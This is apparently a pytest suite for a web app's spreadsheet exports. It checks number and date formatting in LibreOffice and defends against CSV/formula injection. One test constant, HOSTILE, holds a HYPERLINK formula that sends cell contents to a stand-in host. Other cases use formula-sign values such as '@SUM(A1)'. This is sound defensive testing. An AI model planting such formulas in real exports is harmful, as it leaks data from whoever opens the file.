"""Safe exports: text a spreadsheet would run as a formula is written as text in every xlsx and CSV.
Every xlsx export opens in LibreOffice (headless, `soffice --convert-to csv`, cells as shown) with numbers as
numbers (grouped "1,234", decimals "75.0") and dates as dates ("05/12/2025"), never as text; and the CSV for
Indonesian Excel is `;`-separated with a decimal comma. Needs libreoffice-calc-nogui (tests/system_deps.sh);
under CI=true its absence fails instead of skipping."""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from tests.meetings.helpers import make_meeting
from tests.reports.helpers import month_text
from tests.reports.test_recap import _two_reports
from webapp.exports import Column, Export, Sheet, to_csv
from tests.reports.helpers import actor as report_actor, fill, last_month, new_id, palangan_posyandu
from webapp import exports
from webapp.extensions import db
from webapp.reports import services as reports

SOFFICE = shutil.which("soffice")
AS_SHOWN = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,true"
NUMBER = re.compile(r"^-?\d{1,3}(,\d{3})*(\.\d+)?$")
DATE = re.compile(r"^\d{2}/\d{2}/\d{4}( \d{2}:\d{2})?$")


def _libreoffice_csv(paths: list, workdir) -> dict:
    """Convert every xlsx in one LibreOffice run (a private profile, so parallel runs never collide)."""
    if SOFFICE is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice (soffice) is missing: run tests/system_deps.sh")
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = (workdir / "profile").as_uri()
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--convert-to", AS_SHOWN,
                    "--outdir", str(workdir), *map(str, paths)], check=True, capture_output=True, timeout=180)
    return {path.stem: list(csv.reader((workdir / f"{path.stem}.csv").open(encoding="utf-8"), delimiter=";"))
            for path in paths}


def _check(name: str, xlsx: bytes, rows: list[list[str]]) -> int:
    """Each numeric or date cell of the first sheet reads back formatted as a number or a date."""
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    checked = 0
    for r, row in enumerate(sheet.iter_rows(min_row=2), start=1):
        for c, cell in enumerate(row):
            shown = rows[r][c] if c < len(rows[r]) else ""
            if cell.value is None or isinstance(cell.value, str):
                continue
            pattern = DATE if isinstance(cell.value, dt.date | dt.datetime) else NUMBER
            assert pattern.match(shown), (name, cell.coordinate, cell.value, shown)
            if isinstance(cell.value, int) and abs(cell.value) >= 1000:
                assert "," in shown, (name, cell.coordinate, shown)  # grouped: LibreOffice took it as a number
            checked += 1
    return checked


def test_every_xlsx_reads_back_in_libreoffice_with_numbers_and_dates(demo_client, login_as, tmp_path):
    from webapp.meetings import services
    from webapp.workplans import services as plans
    from tests.meetings.helpers import actor
    from tests.workplans.helpers import make_plan

    _two_reports()
    meeting = make_meeting()
    services.add_action_item(actor("pokjanal.kotabesi"), meeting, meeting.agenda_items[0], {
        "what": "Rekap sasaran", "responsible": "r:62.02.01.2003", "due_on": dt.date(2027, 1, 15)})
    plan = make_plan(submit=True)
    plans.approve(actor("kades.palangan"), plan, "", None)
    login_as(demo_client, "camat.kotabesi")
    urls = {
        "recap": f"/laporan/rekap/62.02.01/{month_text()}.xlsx", "raw": f"/laporan/data/62.02.01/{month_text()}.xlsx",
        "dashboard": "/pemantauan/62.02.01/tabel.xlsx", "plan": f"/rencana-kerja/{plan.id}.xlsx",
        "rollup": f"/rencana-kerja/rekap.xlsx?wilayah=62.02.01&tahun={plan.year}",
        "attendance": f"/rapat/{meeting.id}/daftar-hadir.xlsx", "actions": f"/rapat/{meeting.id}/tindak-lanjut.xlsx",
    }
    files = {}
    for name, url in urls.items():
        answer = demo_client.get(url)
        assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet"), name
        assert "Keterangan" in load_workbook(io.BytesIO(answer.data)).sheetnames, name
        files[name] = answer.data
        (tmp_path / f"{name}.xlsx").write_bytes(answer.data)
    shown = _libreoffice_csv([tmp_path / f"{name}.xlsx" for name in files], tmp_path)
    counts = {name: _check(name, data, shown[name]) for name, data in files.items()}
    assert all(counts.values()), counts  # every export has numbers (or dates) LibreOffice read as such
    assert any(DATE.match(v) for row in shown["raw"] for v in row)  # the first-submitted time is a date


def test_csv_for_indonesian_excel_and_for_machines():
    export = Export("Uji", "Kecamatan Kota Besi", "Oktober 2026", "Asia/Makassar", [Sheet("Data", [
        Column("Nama"), Column("Jumlah", "int"), Column("D/S (%)", "percent"), Column("Tanggal", "date"),
        Column("Dikirim", "datetime")], [["Posyandu; Melati", 1234, 75.5, dt.date(2025, 12, 5),
                                         dt.datetime(2025, 12, 5, 1, 35)], ["Kosong", None, None, None, None]])])
    excel = to_csv(export)
    assert excel.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(excel.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Nama", "Jumlah", "D/S (%)", "Tanggal", "Dikirim (WITA)"]
    assert rows[1] == ["Posyandu; Melati", "1234", "75,5", "05/12/2025", "05/12/2025 09:35"]  # 01.35 UTC = 09.35 WITA
    assert rows[2] == ["Kosong", "", "", "", ""]
    machine = list(csv.reader(io.StringIO(to_csv(export, for_excel=False).decode("utf-8"))))
    assert machine[1] == ["Posyandu; Melati", "1234", "75.5", "2025-12-05", "2025-12-05T09:35"]


HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Melati", "Melati"), (-5, -5), (None, ""), ("", ""),
])
def test_csv_cells_starting_like_a_formula_get_the_apostrophe(value, expected):
    assert exports.csv_cell(value) == expected


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    columns = [exports.Column("A"), exports.Column("B"), exports.Column("C", "int"), exports.Column("D"),
               exports.Column("E")]
    book = exports.to_xlsx(exports.Export("Uji", "Wilayah", "Periode", "Asia/Jakarta",
                                          [exports.Sheet("Uji", columns, [["=1+1", "-3", -3, None, "Melati"]])]))
    sheet = load_workbook(io.BytesIO(book)).worksheets[0]
    a, b, c, d, e = sheet[2]
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+1", "s", True)
    assert (b.value, b.data_type) == ("-3", "s") and (c.value, c.data_type) == (-3, "n")
    assert d.value is None and (e.value, e.quotePrefix) == ("Melati", False)


def _no_formula_anywhere(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_a_posyandu_named_like_a_formula_is_text_in_every_export(demo_client, login_as):
    posyandu = palangan_posyandu()
    kader = report_actor("kader.palangan")
    fill(kader, posyandu, *last_month())
    reports.submit(kader, posyandu, *last_month(), new_id(), confirmed=True)
    posyandu.name = HOSTILE
    db.session.commit()
    login_as(demo_client, "pokja.palangan")
    month = month_text()
    for path in (f"/laporan/rekap/62.02.01.2003/{month}", f"/laporan/data/62.02.01.2003/{month}",
                 "/pemantauan/62.02.01.2003/tabel"):
        xlsx = demo_client.get(path + ".xlsx")
        assert xlsx.status_code == 200, path
        assert HOSTILE in _no_formula_anywhere(xlsx.data), path
        text = demo_client.get(path + ".csv").data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        assert "'" + HOSTILE in cells and HOSTILE not in cells, path


SIGNS = {"=": HOSTILE, "+": "+62 812 5100 0099", "-": "-1+2 Kader", "@": "@SUM(1+1)"}


def _text_everywhere(data: bytes) -> set[str]:
    """Every sheet, the Keterangan one included: no formula, and formula-like text carries the quote prefix."""
    texts = set()
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if exports.is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def test_names_starting_with_each_formula_sign_are_text_in_every_export_keterangan_included(demo_client, login_as):
    """Issue 23: the Keterangan sheet's B2 carried a mitra's or a kop's name as a live formula."""
    from tests.meetings.helpers import actor
    from tests.workplans.helpers import make_plan
    from webapp.meetings import services as meetings
    from webapp.mitra.demo import find
    from webapp.regions.models import KabupatenSetting

    _two_reports()
    posyandu = palangan_posyandu()
    posyandu.name = SIGNS["="]
    db.session.get(KabupatenSetting, "62.02").body_name = SIGNS["+"]  # the kop's body name: area of a meeting
    mitra = find("62.02", "Dinkes")
    mitra.name = SIGNS["@"]
    meeting = make_meeting()
    meeting.place = SIGNS["-"]
    db.session.commit()
    who = actor("pokjanal.kotabesi")
    meetings.add_guest(who, meeting, {"guest_name": SIGNS["-"], "instansi": SIGNS["@"], "sex": "P"})
    meetings.add_action_item(who, meeting, meeting.agenda_items[0], {"what": SIGNS["="], "agency": SIGNS["+"]})
    plan = make_plan()
    plan.title = SIGNS["@"]
    db.session.commit()
    month = month_text()
    expected = {  # url: the signs whose text it must carry, as text
        f"/laporan/rekap/62.02.01.2003/{month}.xlsx": "=", f"/laporan/data/62.02.01/{month}.xlsx": "=",
        "/pemantauan/62.02.01.2003/tabel.xlsx": "=", f"/rencana-kerja/{plan.id}.xlsx": "@",
        f"/rencana-kerja/rekap.xlsx?wilayah=62.02.01&tahun={plan.year}": "",
        f"/rapat/{meeting.id}/daftar-hadir.xlsx": "+-@", f"/rapat/{meeting.id}/tindak-lanjut.xlsx": "=+-",
        f"/mitra/{mitra.id}.xlsx": "@", "/audit.xlsx": "-",
    }
    for url, signs in expected.items():
        login_as(demo_client, "admin.kotim" if url.startswith(("/audit", "/mitra")) else "camat.kotabesi")
        answer = demo_client.get(url)
        assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet"), url
        texts = _text_everywhere(answer.data)
        for sign in signs:
            assert any(SIGNS[sign] in text for text in texts), (url, sign)
    keterangan = load_workbook(io.BytesIO(demo_client.get(f"/mitra/{mitra.id}.xlsx").data))["Keterangan"]
    assert (keterangan["B2"].value, keterangan["B2"].quotePrefix) == (SIGNS["@"], True)
    login_as(demo_client, "camat.kotabesi")
    for url in (f"/laporan/rekap/62.02.01.2003/{month}.csv", f"/laporan/data/62.02.01/{month}.csv",
                "/pemantauan/62.02.01.2003/tabel.csv"):
        for for_machines in ("", "?untuk=mesin"):
            text = demo_client.get(url + for_machines).data.decode("utf-8-sig")
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=";" if not for_machines else ",") for c in row]
            assert "'" + SIGNS["="] in cells and not [c for c in cells if exports.is_formula_like(c)], url
